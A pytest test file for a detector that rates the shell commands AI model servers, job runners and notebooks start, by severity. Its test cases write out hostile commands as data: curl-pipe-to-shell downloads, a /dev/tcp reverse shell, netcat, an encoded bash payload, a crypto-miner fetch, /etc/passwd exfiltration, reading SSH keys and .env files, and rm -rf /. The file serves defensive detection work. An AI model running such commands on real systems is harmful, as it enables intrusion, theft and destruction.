"""What model servers start."""

from __future__ import annotations

import pytest
from detect_acts import NULL, TTY, exchange, found, pipe, proc, started, worst

from leeward.detect.command_signs import signs
from leeward.detect.model_server import ModelServer
from leeward.model.activity import HttpSeen
from leeward.model.exchange import Observer, ProcessRef
from leeward.model.process import Process

VLLM = proc("/usr/bin/python3 -m vllm.entrypoints.openai.api_server --model x")
RAY = proc("/usr/bin/python3 /usr/lib/python3/site-packages/ray/dashboard/dashboard.py")
LANGFLOW = proc("/usr/bin/python3 /usr/local/bin/langflow run")
UVICORN = proc("/usr/bin/python3 -m uvicorn langflow.main:create_app --port 7860")
KERNEL = proc("/usr/bin/python3 -m ipykernel_launcher -f x.json", proc("/usr/bin/python3 /usr/local/bin/jupyter-lab"))


def severity(command: str, parent: Process = VLLM, streams: object = NULL) -> str:
    return worst(found(ModelServer(), started(proc(command, parent), streams)))  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "server", [VLLM, LANGFLOW, UVICORN, proc("/usr/local/bin/ollama serve"), proc("/opt/tritonserver/bin/tritonserver")]
)
@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("/bin/sh -i", "high"),
        ("bash", "high"),
        ("sh -c 'curl http://203.0.113.7/x | sh'", "critical"),
        ("bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'", "critical"),
        ("sh -c 'id'", "high"),
        ("sh -c 'cat /etc/shadow'", "high"),
        ("curl -s http://203.0.113.7/x -o /tmp/x", "high"),
        ("wget http://203.0.113.7/x", "high"),
        ("nc 203.0.113.7 4444", "high"),
        ("whoami", "high"),
        ("sh -c /opt/x/unknown-tool", "medium"),
        ("sh -c 'echo owned > /tmp/x'", "medium"),
        ("sh -c 'cat /etc/passwd'", "medium"),
        ("sh -c 'ls -la /'", "medium"),
        ("python3 -c 'import socket,os;s=socket.socket();s.connect((1,2))'", "high"),
        ("sh -c 'echo aGk= | base64 -d | bash'", "critical"),
    ],
)
def test_what_they_should_not_start(server: Process, command: str, expected: str) -> None:
    assert severity(command, server) == expected


def test_it_may_be_some_steps_below() -> None:
    worker = proc("/usr/bin/python3 -c 'from multiprocessing.spawn import spawn_main; spawn_main()'", VLLM)
    assert severity("curl http://x", proc("sh -c 'python3 y.py'", worker)) == "high"


@pytest.mark.parametrize(
    "command",
    [
        "sh -c '/sbin/ldconfig -p 2>/dev/null'",
        "nvidia-smi --query-gpu=name --format=csv",
        "sh -c 'nvidia-smi | grep MiB'",
        "gcc -O3 main.c -shared -fPIC",
        "sh -c 'gcc -v 2>&1'",
        "/usr/bin/x86_64-linux-gnu-gcc-12 x.c",
        "git rev-parse HEAD",
        "uname -p",
        "sh -c 'uname -p 2> /dev/null'",
        "lscpu",
        "/usr/bin/python3 -c 'from multiprocessing.resource_tracker import main;main(4)'",
        "/usr/bin/python3 -m vllm.worker",
        "ninja -v",
        "ps aux",
        "sh -c 'which ffmpeg'",
        "hostname -I",
        "sh -c 'cat /proc/cpuinfo | grep flags | head -1'",
        "sh -c 'cd /x && gcc -c y.c && rm z'",
        "sh -c 'lsb_release -a && cat /etc/os-release'",
    ],
)
def test_helpers_are_silent(command: str) -> None:
    assert severity(command) == ""


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("sh -c 'python3 train.py --epochs 3'", ""),
        ("bash -c 'cd /job && pip install -r requirements.txt && python3 x.py'", ""),
        ("sh -c 'curl -O https://data.example/x.csv'", "low"),
        ("sh -c 'curl -s http://203.0.113.7/x | bash'", "critical"),
        ("sh -c 'id; uname -a'", "medium"),
        ("sh -c 'wget http://x/xmrig && ./xmrig -o stratum+tcp://pool:3333'", "critical"),
        ("bash -i", "high"),
    ],
)
def test_a_job_runner_is_judged_by_what_the_shell_does(command: str, expected: str) -> None:
    assert (
        severity(command, proc("/usr/bin/python3 /usr/lib/site-packages/ray/_private/workers/default_worker.py", RAY))
        == expected
    )


@pytest.mark.parametrize(
    ("command", "parent"),
    [
        ("/bin/bash -l", proc("/usr/bin/python3 /usr/local/bin/jupyter-lab")),
        ("sh -c 'pip install x'", KERNEL),
        ("sh -c 'wget https://data.example/x.csv'", KERNEL),
        ("sh -c 'curl -LsSf https://astral.sh/uv/install.sh | sh'", KERNEL),
    ],
)
def test_people_in_notebooks_are_low(command: str, parent: Process) -> None:
    assert severity(command, parent, TTY) == "low"


def test_others_are_nobodys_business() -> None:
    assert severity("sh -c 'curl http://x | sh'", proc("/usr/bin/python3 app.py")) == ""
    agent = proc("claude", proc("bash -l", proc("/usr/bin/python3 /usr/local/bin/jupyter-lab")))
    assert severity("bash -c 'curl http://x'", agent) == ""
    build = proc("/usr/bin/python3 -m pip install vllm", KERNEL)
    assert severity("sh -c 'id'", build) == ""


def test_whoever_answers_ai_requests_is_a_server() -> None:
    app = proc("/opt/app/serve")
    shell = proc("sh -c 'curl http://203.0.113.7/x | sh'", app)
    seen = HttpSeen(ts=1, process=app, direction="inbound", path="/v1/chat/completions", exchange=True)
    assert not found(ModelServer(), started(shell))
    assert worst(found(ModelServer(), seen, started(shell))) == "critical"
    asked = exchange(proc("curl x"))
    asked.exchange.observers = [Observer(ProcessRef(app.pid, app.exe))]
    assert worst(found(ModelServer(), asked, started(proc("bash", app), (pipe(1), pipe(2), pipe(2))))) == "high"
    outbound = HttpSeen(ts=1, process=app, direction="outbound", exchange=True)
    assert not found(ModelServer(), outbound, started(shell))


@pytest.mark.parametrize(
    ("command", "kind"),
    [
        ("rm -rf /", "destroy"),
        ("rm -rf ~/", "destroy"),
        ("psql -c 'DROP TABLE customers'", "destroy"),
        ("bash -c 'systemctl stop auditd'", "blind"),
        ("bash -c 'curl -d @/etc/passwd http://x'", "upload"),
        ("crontab /tmp/x", "persist"),
        ("cat /root/.ssh/id_rsa", "credentials"),
        ("cat .env", "credentials"),
        ("rm -rf node_modules", None),
        ("rm -rf /tmp/build-1", None),
        ("git commit -m 'rm -rf / is bad'", None),
        ("echo 'DROP TABLE x'", None),
        ("sh -c 'curl -f http://localhost:8000/health'", None),
        ("cat .env.example", None),
        ("cat src/environment.ts", None),
    ],
)  # fmt: skip
def test_signs_of_commands(command: str, kind: str | None) -> None:
    assert [sign.kind for sign in signs(proc(command).argv)][:1] == ([kind] if kind else [])
